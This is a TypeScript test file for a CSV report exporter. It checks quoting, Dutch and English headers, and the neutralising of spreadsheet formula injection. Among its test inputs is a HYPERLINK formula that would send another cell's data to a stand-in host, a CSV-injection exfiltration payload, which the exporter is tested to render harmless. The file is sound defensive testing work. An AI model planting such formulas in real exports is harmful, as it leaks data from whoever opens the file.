import { expect } from 'chai';
import { csvCell, reportCsv } from '../src/server/reports/report-csv.js';
import type { ReportColumn } from '../src/common/reports.js';

const TEXT = { type: 'text' } as const;
const NUMBER = { type: 'number' } as const;

describe('reportCsv', () => {
  describe('#csvCell', () => {
    it('should show text a spreadsheet would run as a formula literally (C13)', () => {
      const cells = ['=1+1', '+SUM(1;1)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1',
        '=HYPERLINK("http://example.invalid/?"&A2,"klik")'];

      expect(cells.map((cell) => csvCell(cell, TEXT))).to.deep.equal([
        "'=1+1", "'+SUM(1;1)", "'-2+3", "'@SUM(A1)", "'\t=1+1", "'\r=1+1",
        `'=HYPERLINK("http://example.invalid/?"&A2,"klik")`,
      ]);
    });

    it('should keep a genuine negative number of a number column a number', () => {
      expect(csvCell(-2, NUMBER)).to.equal('-2');
      expect(csvCell(-2.5, NUMBER)).to.equal('-2,5');
    });

    it('should neutralise the same text in a text column, and text in a number column', () => {
      expect(csvCell('-2', TEXT)).to.equal("'-2");
      expect(csvCell('=1+1', NUMBER)).to.equal("'=1+1");
    });

    it('should leave an empty cell for no value', () => {
      expect(csvCell(null, NUMBER)).to.equal('');
      expect(csvCell(null, TEXT)).to.equal('');
    });
  });

  describe('#reportCsv', () => {
    const columns: ReportColumn[] = [
      { key: 'name', labelNl: 'Naam', labelEn: 'Name', type: 'text' },
      { key: 'day', labelNl: 'Dag', labelEn: 'Day', type: 'date' },
      { key: 'balance', labelNl: 'Saldo; uren', labelEn: 'Balance', type: 'number' },
    ];
    const rows = [
      { name: 'Öztürk', day: '2025-03-30', balance: -2 },
      { name: null, day: null, balance: 1.5 },
    ];

    it('should write a BOM, a header in Dutch and CRLF after every row', () => {
      expect(reportCsv(columns, rows, 'nl')).to.equal(
        '\uFEFFNaam;Dag;"Saldo; uren"\r\nÖztürk;2025-03-30;-2\r\n;;1,5\r\n',
      );
    });

    it('should quote separators, quotes and line breaks as RFC 4180 says', () => {
      const name: ReportColumn[] = [
        { key: 'name', labelNl: 'Naam', labelEn: 'Name', type: 'text' },
      ];
      const names = ['Groen; onderhoud', 'De "Vlinder"', 'regel 1\nregel 2', 'Atelier, hout']
        .map((value) => ({ name: value }));

      expect(reportCsv(name, [...names, { name: '=A1;B1' }], 'nl')).to.equal(
        '\uFEFFNaam\r\n"Groen; onderhoud"\r\n"De ""Vlinder"""\r\n"regel 1\nregel 2"\r\n' +
          `Atelier, hout\r\n"'=A1;B1"\r\n`,
      );
    });

    it('should write the header in English for an English reader', () => {
      expect(reportCsv(columns, [], 'en')).to.equal('\uFEFFName;Day;Balance\r\n');
    });
  });
});
